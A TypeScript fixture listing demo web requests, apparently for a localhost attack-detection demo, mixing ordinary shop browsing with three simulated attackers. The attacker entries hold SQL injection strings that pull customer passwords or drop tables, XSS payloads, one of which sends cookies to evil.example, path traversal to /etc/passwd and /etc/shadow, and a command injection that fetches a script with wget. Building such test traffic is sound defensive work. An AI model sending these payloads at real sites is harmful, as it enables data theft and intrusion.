/** What the demo sends: customers who browse, and three who attack. */

export type DemoRequest = {
  /** Source address inside 127.0.0.0/8. */
  readonly from: string;
  readonly userAgent: string;
  readonly path: string;
  /** A form body; absent = GET. */
  readonly body?: string;
};

const BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0";

function browse(from: string, ...paths: readonly string[]): DemoRequest[] {
  return paths.map((path) => ({ from, userAgent: BROWSER, path }));
}

function attack(from: string, userAgent: string, paths: readonly string[]): DemoRequest[] {
  return paths.map((path) => ({ from, userAgent, path }));
}

const query = encodeURIComponent;

/** In the order they are sent. */
export const demoRequests: readonly DemoRequest[] = [
  ...browse("127.0.1.10", "/", "/search?q=tea", "/product?id=1", "/product?id=3"),
  ...browse("127.0.1.11", "/", "/search?q=green+tea", "/product?id=4", "/comments"),
  {
    from: "127.0.1.11",
    userAgent: BROWSER,
    path: "/comments",
    body: "text=Lovely+teapot%2C+arrived+in+two+days",
  },
  ...attack("127.0.1.66", "sqlmap/1.7.2#stable (https://sqlmap.org)", ["/product?id=1"]),
  ...attack("127.0.1.66", BROWSER, [
    `/product?id=${query("1 or 1=1")}`,
    `/product?id=${query("1 union select id, email, password from customer")}`,
    `/search?q=${query("' union select 1, sql, 3 from sqlite_master -- ")}`,
    `/product?id=${query("1; drop table customer")}`,
    `/product?id=${query("1 and sleep(5)")}`,
  ]),
  ...browse("127.0.1.12", "/", "/search?q=kettle", "/product?id=2"),
  ...attack("127.0.1.77", BROWSER, [
    `/search?q=${query("<script>fetch('//evil.example/'+document.cookie)</script>")}`,
    `/search?q=${query("<img src=x onerror=alert(1)>")}`,
    `/search?q=${query('"><svg/onload=alert(1)>')}`,
  ]),
  ...attack("127.0.1.88", "curl/8.5.0", [
    `/manual?file=${query("../../../../../../etc/passwd")}`,
    `/manual?file=${query("....//....//etc/shadow")}`,
    "/.git/config",
    `/search?q=${query("; cat /etc/passwd")}`,
    `/search?q=${query("$(wget http://evil.example/x.sh)")}`,
  ]),
];
